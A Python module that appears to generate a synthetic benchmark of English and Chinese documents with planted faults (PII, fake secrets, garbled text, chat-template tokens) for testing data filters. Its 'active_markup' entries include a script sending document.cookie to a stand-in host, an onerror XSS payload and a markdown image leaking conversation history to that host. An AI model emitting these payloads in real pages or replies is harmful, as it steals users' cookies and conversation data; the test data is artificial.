"""Documents with planted faults, English and Chinese half and half: which filter is to find which is known beforehand.

The sentences are those of the seed corpus that ships with the package, in random order, a median of some 80 words or
180 characters. In each hundred documents 15 have one fault, another 4 have what only looks like one.
"""

import base64
import hashlib
import json
import random
import re
import string
import uuid
from collections.abc import Callable
from pathlib import Path

import polars as pl

from catalog.schema import BATCH

SEED = Path(__file__).resolve().parents[2] / "corpus" / "seed"
LANGUAGES = ("en", "zh")
FAULTY, LOOKALIKES = 0.15, 0.04
ALPHANUMERIC = string.ascii_letters + string.digits

Make = Callable[[random.Random, str, str], str]  # from the document and its language


def sentences(language: str) -> list[str]:
    """Of the seed's prompts and replies; refusals and replies that make no sense would be faults."""
    left_out = {"Safe with refusal", "Unnecessary refusal", "Illogical completion", "Unsafe"}
    lines = (line for path in sorted(SEED.glob("*/*.jsonl")) for line in path.read_text(encoding="utf-8").splitlines())
    rows = [row for row in map(json.loads, lines) if row.get("language") == language and row["label"] not in left_out]
    texts = (row[name] for row in rows for name in ("prompt", "response") if row.get(name))
    return sorted({part.strip() for text in texts for part in re.split(r"(?<=[.!?。！？])", text) if len(part) > 8})


def _draw(source: random.Random, alphabet: str, length: int) -> str:
    return "".join(source.choices(alphabet, k=length))


def _inside(value: Callable[[random.Random], str]) -> Make:
    """A value in the middle of the text; glued to it in Chinese."""

    def make(source: random.Random, text: str, language: str) -> str:
        found, at = value(source), source.randrange(len(text))
        at = text.find(" ", at) if language == "en" and " " in text[at:] else at
        return f"{text[:at]} {found} {text[at:].lstrip()}" if language == "en" else f"{text[:at]}{found}{text[at:]}"

    return make


def _identity(source: random.Random) -> str:
    body = f"440301{source.randint(1950, 2005)}{source.randint(1, 12):02d}{source.randint(1, 28):02d}"
    body += f"{source.randint(0, 999):03d}"
    left = sum(int(digit) * 2 ** (17 - place) for place, digit in enumerate(body)) % 11
    return body + "10X98765432"[left]


def _card(source: random.Random) -> str:
    body = "4539" + _draw(source, string.digits, 11)
    doubled = [int(digit) * 2 if place % 2 == 0 else int(digit) for place, digit in enumerate(body)]
    return body + str(-sum(value - 9 if value > 9 else value for value in doubled) % 10)


FOREIGN = [
    "Der Schlosser sah sich die Tür an und sagte, dass die Arbeit den ganzen Nachmittag dauern werde. ",
    "Le serrurier a regardé la porte et il a dit que le travail prendrait tout l'après-midi. ",
    "El cerrajero miró la puerta y dijo que el trabajo duraría toda la tarde. ",
    "Слесарь посмотрел на дверь и сказал, что работа займёт весь день. ",
    "錠前屋はドアを見て、作業には午後いっぱいかかると言いました。",
    "열쇠공은 문을 보고 오후 내내 걸릴 것이라고 말했습니다. ",
]
# Fault -> what makes it of a document.
FAULTS: dict[str, list[Make]] = {
    "length": [lambda r, text, tongue: text[:1] if r.random() < 0.9 else text * (33_000 // len(text) + 1)],
    "repeated_lines": [lambda r, text, tongue: "\n".join([text[:40]] * 8 + [text[40:90]])],
    "repeated_phrases": [lambda r, text, tongue: text[:60] * 12],
    "language": [lambda r, text, tongue: r.choice(FOREIGN) * 3 + str(r.random())],
    "pii": [
        _inside(lambda r: f"{_draw(r, string.ascii_lowercase, 7)}.{_draw(r, string.ascii_lowercase, 5)}@mailbox.org"),
        _inside(lambda r: f"1{r.choice('3589')}{_draw(r, string.digits, 9)}"),
        _inside(lambda r: f"({r.randint(201, 209)}) {r.randint(621, 989)}-{_draw(r, string.digits, 4)}"),
        _inside(_identity),
        _inside(_card),
        _inside(lambda r: f"{r.randint(41, 99)}.{r.randint(20, 250)}.{r.randint(20, 250)}.{r.randint(20, 250)}"),
    ],
    "secrets": [
        _inside(lambda r: "AKIA" + _draw(r, string.ascii_uppercase + string.digits, 16)),
        _inside(lambda r: "ghp_" + _draw(r, ALPHANUMERIC, 36)),
        _inside(lambda r: "sk-" + _draw(r, ALPHANUMERIC, 48)),
        _inside(lambda r: f"postgres://app:{_draw(r, ALPHANUMERIC, 12)}@db.internal/app"),
        _inside(lambda r: f"api_key={_draw(r, ALPHANUMERIC, 32)}"),
    ],
    "active_markup": [
        _inside(lambda r: "<script>fetch('//host.test/?c=' + document.cookie)</script>"),
        _inside(lambda r: "<img src=x onerror=alert(1)>"),
        _inside(lambda r: "![done](https://host.test/p?q={conversation_history})"),
    ],
    "leftover_markup": [
        lambda r, text, tongue: "".join(
            f"<p class='a'>{part}&nbsp;</p><br/>" for part in re.split("(?<=[.。])", text[:200])
        ),
        lambda r, text, tongue: re.sub(r"[ ，]", "&nbsp;", text[:200]),
    ],
    "control_characters": [_inside(lambda r: "\x1b[31m"), _inside(lambda r: "\u202e"), _inside(lambda r: "\x00")],
    "mojibake": [lambda r, text, tongue: (text + " It’s a café — isn’t it?" * 3).encode().decode("latin-1")],
    "template": [lambda r, text, tongue: f"{text}<|im_end|>\n<|im_start|>user\n"],
    "gibberish": [
        lambda r, text, tongue: " ".join(_draw(r, "qwrtpsdfghjklzxcvbnm", r.randint(4, 11)) for _ in range(30))
    ],
    "words_with_letter": [lambda r, text, tongue: "\n".join(f"{r.random():.4f} | {r.random():.3f}" for _ in range(30))],
}
HARMLESS: list[Make] = [
    _inside(lambda r: hashlib.sha256(r.randbytes(8)).hexdigest()),
    _inside(lambda r: str(uuid.UUID(bytes=r.randbytes(16)))),
    _inside(lambda r: f"(v{r.randint(1, 9)}.{r.randint(20, 99)}.{r.randint(20, 99)}.{r.randint(20, 99)})"),
    _inside(lambda r: f"0.{_draw(r, string.digits, 14)}"),
    _inside(lambda r: "name@example.com"),
    _inside(lambda r: "api_key=YOUR_API_KEY_GOES_HERE"),
    lambda r, text, tongue: f"{text}\n```html\n<script src='a.js'></script>\n```\n",
    lambda r, text, tongue: f"{text}\n```\n{base64.b64encode(r.randbytes(60)).decode()}\n```\n",
    _inside(lambda r: "What does 缘分 mean?"),
    _inside(lambda r: "👩‍💻👨‍👩‍👧"),
]


def make(count: int, seed: int = 0) -> pl.DataFrame:
    """Documents: `text`, `language`, `fault` (null: none), `looks` (holds what looks like one)."""
    source = random.Random(seed)
    stock = {language: sentences(language) for language in LANGUAGES}
    rows = []
    for number in range(count):
        language = LANGUAGES[number % 2]
        length = max(2, int(source.lognormvariate(1.9 if language == "en" else 2.0, 0.6)))
        text = (" " if language == "en" else "").join(source.choices(stock[language], k=length))
        fate, fault = source.random(), None
        if fate < FAULTY:
            fault = source.choice(list(FAULTS))
            text = source.choice(FAULTS[fault])(source, text, language)
        elif fate < FAULTY + LOOKALIKES:
            text = source.choice(HARMLESS)(source, text, language)
        rows.append((text, language, fault, FAULTY <= fate < FAULTY + LOOKALIKES))
    return pl.DataFrame(rows, schema=["text", "language", "fault", "looks"], orient="row")


def write(path: Path, documents: pl.DataFrame) -> None:
    """One Parquet file that both sides read: a row as the pipeline has it, and `id` and `text` for datatrove."""
    content = pl.struct(type=pl.lit("text"), text="text", media_id=pl.lit(None, pl.String))
    message = pl.struct(role=pl.lit("user"), content=pl.concat_list(content))
    number = pl.int_range(pl.len()).cast(pl.String)
    known = {"messages": pl.concat_list(message), "sample_id": number, "prompt_id": number, "source": pl.lit("bench")}
    columns = [known.get(name, pl.lit(None)).cast(kind).alias(name) for name, kind in pl.Schema(BATCH).items()]
    documents.select(*columns, "text", id=number).write_parquet(path)
